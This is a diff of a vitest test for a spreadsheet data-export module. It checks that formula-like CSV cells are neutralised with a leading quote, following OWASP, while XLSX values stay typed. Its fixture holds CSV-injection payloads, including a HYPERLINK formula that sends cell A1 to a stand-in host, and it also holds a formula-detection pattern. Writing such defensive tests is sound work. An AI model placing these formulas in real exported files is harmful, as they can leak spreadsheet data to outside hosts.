@@ -6,7 +6,7 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
-import { dataCsv, dataFileNames, dataXlsx } from '../../functions/app/data-export.ts';
+import { dataCsv, dataFileNames, dataXlsx, FORMULA_NOTE } from '../../functions/app/data-export.ts';
 import type { RecordStore } from '../../functions/app/ports.ts';
 import { referenceData } from '../../functions/app/reference-data.ts';
 import {
@@ -224,12 +224,56 @@ describe('the data file of an issue', () => {
     await book.xlsx.load(Buffer.from(await dataXlsx(data)) as unknown as ArrayBuffer);
     expect(book.worksheets[0]!.name).toBe('数据');
     expect(book.worksheets[0]!.rowCount).toBe(data.rows.length + 1);
-    expect(book.worksheets.length).toBe(data.tables.length + 1);
+    expect(book.worksheets.length).toBe(data.tables.length + 2);
+    expect(book.worksheets.at(-1)!.name).toBe('说明');
     const sheet = book.worksheets[1]!;
     expect(sheet.getRow(1).getCell(1).value).toBe(data.tables[0]!.caption);
     expect(dataFileNames('火炬动态-2026-第2期.pdf')).toEqual({
       csv: '火炬动态-2026-第2期-数据.csv',
       xlsx: '火炬动态-2026-第2期-数据.xlsx',
     });
+  });
+
+  it('neutralises cells a spreadsheet would run as formulas (OWASP); the workbook stays typed', async () => {
+    const [, bulletin] = views[0]!;
+    const data = buildDataFile(bulletin);
+    const hostile = [
+      '=HYPERLINK("http://x.example/?"&A1,"点击")',
+      '+1+2',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+    ];
+    const first = [...data.rows[0]!];
+    first[3] = hostile[0]!;
+    first[5] = hostile[1]!;
+    first[7] = hostile[2]!;
+    first[15] = hostile[3]!;
+    first[12] = hostile[4]!;
+    first[10] = '-2.1';
+    const rows = [first, ...data.rows.slice(1)];
+    const csv = parse(Buffer.from(dataCsv({ ...data, rows })), { bom: true }) as string[][];
+    expect([csv[1]![3], csv[1]![5], csv[1]![7], csv[1]![15], csv[1]![12]]).toEqual(
+      hostile.map((h) => `'${h}`),
+    );
+    // A plain (negative) number is a number, not a formula: left as it is.
+    expect(csv[1]![10]).toBe('-2.1');
+    // No cell of the CSV starts like a formula.
+    for (const row of csv) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
+    const book = new ExcelJS.Workbook();
+    const numeric = [...first];
+    numeric[10] = -2.1;
+    await book.xlsx.load(
+      Buffer.from(
+        await dataXlsx({ ...data, rows: [numeric, ...rows.slice(1)] }),
+      ) as unknown as ArrayBuffer,
+    );
+    const cells = book.worksheets[0]!.getRow(2);
+    // Text stays text (no quote added, no formula made), numbers stay numbers.
+    expect(cells.getCell(4).value).toBe(hostile[0]);
+    expect(cells.getCell(11).value).toBe(-2.1);
+    expect(cells.getCell(1).value).toBe(1);
+    expect(book.getWorksheet('说明')!.getRow(2).getCell(1).value).toBe(FORMULA_NOTE);
+    expect(FORMULA_NOTE).toContain('单引号');
   });
 });
